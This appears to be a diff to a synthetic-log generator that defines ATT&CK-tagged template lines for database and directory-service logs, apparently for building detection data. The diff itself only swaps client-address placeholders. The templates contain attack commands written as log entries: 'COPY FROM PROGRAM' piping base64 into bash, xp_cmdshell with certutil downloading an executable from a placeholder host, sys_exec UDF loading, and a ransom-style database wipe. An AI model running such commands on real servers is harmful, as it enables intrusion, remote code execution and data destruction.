@@ -4,7 +4,7 @@ from generator.families.network.product_story import catalogue
 
 catalogue("network/product-database-servers", ("|{msg}", "={plain} {msg}", "={iso} {msg}"), r"""
 BF# [Note] Access denied for user '{adm}'@'{wan}' (using password: YES)
-PS# [Warning] Access denied for user '{word}'@'{wan}' (using password: YES)
+PS# [Warning] Access denied for user '{word}'@'{any}' (using password: YES)
 BF [Warning] Host '{wan}' is blocked because of many connection errors ({many}), login of 'root' refused each time
 PT@T1505.001 [Note] 'CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'' by root@{wan}
 RB@T1485 {many} Query DROP DATABASE `{company}`; CREATE TABLE WARNING (id INT, warning TEXT, bitcoin_address TEXT) from {wan}
@@ -12,12 +12,12 @@ BF# FATAL:  password authentication failed for user "postgres" client={wan}
 + DETAIL:  Connection matched pg_hba.conf line {n}: "host all all 0.0.0.0/0 md5"
 CI+@T1059.004,T1190 LOG:  statement: DROP TABLE IF EXISTS {word};CREATE TABLE {word}(cmd_output text);COPY {word} FROM PROGRAM 'echo {long}|base64 -d|bash'; client={wan}
 PT@T1098 LOG:  statement: CREATE ROLE {word} SUPERUSER LOGIN PASSWORD '***' client={wan} user=postgres, after {many} failures
-BF# Logon       Error: 18456, Severity: 14, State: 8. Login failed for user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: {wan}]
+BF# Logon       Error: 18456, Severity: 14, State: 8. Login failed for user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: {any}]
 PS# Logon       Login failed for user '{word}'. Reason: Could not find a login matching the name provided. [CLIENT: {wan}]
 CI@T1059.003,T1505.001 spid{n}       Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install. client {wan} login sa
 CI@T1059.003,T1505.001 spid{n}       xp_cmdshell: certutil -urlcache -f http://{wan}/{word}.exe c:\users\public\{word}.exe executed by sa
 PT@T1505.001 spid{n}       Using 'xpstar.dll' version; sp_OACreate 'WScript.Shell' by sa from {wan}; clr enabled changed from 0 to 1; SQL audit stopped
-BF# ORA-01017: invalid username/password; logon denied; USERID: "<<SYS|SYSTEM|DBSNMP|SCOTT>>" HOST={wan}
+BF# ORA-01017: invalid username/password; logon denied; USERID: "<<SYS|SYSTEM|DBSNMP|SCOTT>>" HOST={any}
 BF ORA-28000: the account is locked: user SYSTEM, {n} failed logins from {wan} PROGRAM=hydra oci
 RX TNS-12508 listener: command <<SERVICES|LOG_FILE=/home/oracle/.rhosts>> from {wan}, TNS poison COMMAND=SERVICE_REGISTER_NSGR
 BF# {"s":"I","c":"ACCESS","id":20249,"ctx":"conn{big}","msg":"Authentication failed","attr":{"mechanism":"SCRAM-SHA-256","principalName":"{adm}","remote":"{wan}:{port}","error":"AuthenticationFailed: SCRAM authentication failed, storedKey mismatch"}}
@@ -47,7 +47,7 @@ SY LOG:  checkpoints are occurring too frequently ({n} seconds apart)
 SY LOG:  automatic vacuum of table "{company}.public.orders": index scans: 1
 AD LOG:  statement: CREATE ROLE report_reader LOGIN; GRANT SELECT client=[local] user=postgres
 BA LOG:  statement: COPY public.orders TO stdout; user=backup client={lan} (pg_dump)
-MP. Logon       Login failed for user '{company}\{user}'. Reason: Failed to open the explicitly specified database '{word}'. [CLIENT: {lan}]
+MP. Logon       Login failed for user '{company}\{user}'. Reason: Failed to open the explicitly specified database '{word}'. [CLIENT: {any}]
 SY spid{n}s     SQL Server has encountered {n} occurrence(s) of I/O requests taking longer than 15 seconds to complete on file [D:\Data\{company}.mdf]
 SY spid{n}      Error: 9002, Severity: 17. The transaction log for database '{company}' is full due to 'LOG_BACKUP'.
 SY spid{n}      Error: 823, Severity: 24, State: 2. The operating system returned error 21 (device not ready)
@@ -69,11 +69,11 @@ BA mysqldump of {n} databases by {service}@localhost to /backup, {huge} bytes
 """)
 
 catalogue("network/product-directories", ("|{msg}", "={plain} {msg}"), r"""
-BF# slapd[{n}]>> conn={big} op=0 RESULT tag=97 err=49 text= (BIND dn="cn=admin,dc={company}" from IP={wan}:{port})
+BF# slapd[{n}]>> conn={big} op=0 RESULT tag=97 err=49 text= (BIND dn="cn=admin,dc={company}" from IP={any}:{port})
 PS# slapd[{n}]>> conn={big} op=0 BIND dn="uid={user2},ou=people,dc={company}" method=128 from {any}; RESULT err=49, account {n} of the same minute
 UE slapd[{n}]>> conn={big} op={n} SRCH base="ou=people,dc={company}" scope=2 filter="(uid={word}*)" from {wan}, {big} guesses in {few} minutes, nentries=0
 BF# radiusd[{n}]>> ({big}) Login incorrect (mschap: MS-CHAP2-Response is incorrect): [{user}/<via Auth-Type = MSCHAP>] (from client vpn port {n} cli {wan})
-PS# radiusd[{n}]>> ({big}) Invalid user: [{word}/<via Auth-Type = PAP>] (from client vpn port 0 cli {wan})
+PS# radiusd[{n}]>> ({big}) Invalid user: [{word}/<via Auth-Type = PAP>] (from client vpn port 0 cli {any})
 IX@T1210 radiusd[{n}]>> BlastRADIUS: {n} packets without Message-Authenticator with identical prefix from {any}, collision pattern, client nas{n}
 KD krb5kdc[{n}]>> TGS_REQ (1 etypes {rc4-hmac}) {lan}: ISSUE: {user}@{domain} for {many} different service principals within {few} seconds
 KD@T1558.004 krb5kdc[{n}]>> AS_REQ (1 etypes {rc4-hmac}) {any}: ISSUE without preauth for {many} users within a minute, client kinit of unknown host
@@ -88,7 +88,7 @@ DE+@T1484.002,T1556 adfs: relying party or token signing key exported: Event 307
 PS# adfs: Event 411 token validation failed: {user2}@{domain}-The user name or password is incorrect, client {wan}
 AT@T1621 duo: {"result":"denied","reason":"user marked fraud","username":"{user}","ip":"{wan}","integration":"VPN","factor":"push"} after {n} pushes
 AT@T1621 NPS: user {user} received {many} approval requests within {few} minutes, last approved, client {wan}
-BF# NPS: IAS 6273 Network Policy Server denied access to a user. Account {adm}, Calling Station {wan}, Reason Code 16
+BF# NPS: IAS 6273 Network Policy Server denied access to a user. Account {adm}, Calling Station {any}, Reason Code 16
 """, r"""
 LO slapd[{n}]>> conn={big} op=0 BIND dn="uid={user},ou=people,dc={company}" mech=SIMPLE ssf=0
 + slapd[{n}]>> conn={big} op=0 RESULT tag=97 err=0 text=
@@ -104,7 +104,7 @@ ER radiusd[{n}]>> Error: rlm_ldap (ldap): Opening connection failed ({few})
 ER radiusd[{n}]>> ({big}) eap_tls: ERROR: TLS Alert read:fatal:unknown CA
 SY radiusd[{n}]>> Error: Child PID {big} is taking too much time: forcing failure and killing child.
 LO krb5kdc[{n}]>> AS_REQ (8 etypes {aes256-cts}) {lan}: ISSUE: authtime {seconds}, {user}@{domain} for krbtgt/{domain}
-MP. krb5kdc[{n}]>> AS_REQ (8 etypes) {lan}: PREAUTH_FAILED: {user}@{domain} for krbtgt/{domain}, Preauthentication failed
+MP. krb5kdc[{n}]>> AS_REQ (8 etypes) {any}: PREAUTH_FAILED: {user}@{domain} for krbtgt/{domain}, Preauthentication failed
 NS krb5kdc[{n}]>> AS_REQ (8 etypes) {lan}: NEEDED_PREAUTH: {user}@{domain} for krbtgt/{domain}, Additional pre-authentication required
 MP. krb5kdc[{n}]>> CLIENT KEY EXPIRED: {user}@{domain} for krbtgt/{domain}, Password has expired
 NS krb5kdc[{n}]>> TGS_REQ (4 etypes) {lan}: LOOKING_UP_SERVER: {user}@{domain} for HTTP/{word}, Server not found in Kerberos database
@@ -122,7 +122,7 @@ LO adfs: Event 1200 The Federation Service issued a valid token, user {mail}, cl
 MP. adfs: Event 411 token validation failed: {mail}-The password has expired
 SY adfs: Event 385 certificates of the trust expire in {n} days; rollover planned by {adm}
 LO duo: {"result":"success","reason":"user approved","username":"{user}","ip":"{any}","integration":"VPN","factor":"push"}
-MP. duo: {"result":"denied","reason":"no response","username":"{user}","ip":"{lan}","integration":"RDP","factor":"push"}
+MP. duo: {"result":"denied","reason":"no response","username":"{user}","ip":"{any}","integration":"RDP","factor":"push"}
 AD duo: administrator {adm} issued bypass code for {user} (new phone), ticket {id}
 MP. NPS: IAS 6273 Network Policy Server denied access to a user. Account {user}, Calling Station {macdash}, Reason Code 16
 """)
